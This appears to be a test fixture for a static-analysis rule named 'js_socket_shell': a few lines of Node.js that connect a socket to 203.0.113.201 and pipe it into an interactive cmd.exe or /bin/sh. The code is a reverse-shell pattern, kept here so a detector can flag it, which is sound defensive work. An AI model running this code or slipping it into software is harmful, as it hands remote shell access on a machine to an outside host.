const { spawn: s } = require('child_process');
const { Socket: S } = require('net');
const c = new S();
c.connect(4433, '203.0.113.201', () => {
  const sh = s(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', ['-i']);
  // ruleid: js_socket_shell
  c.pipe(sh.stdin);
});
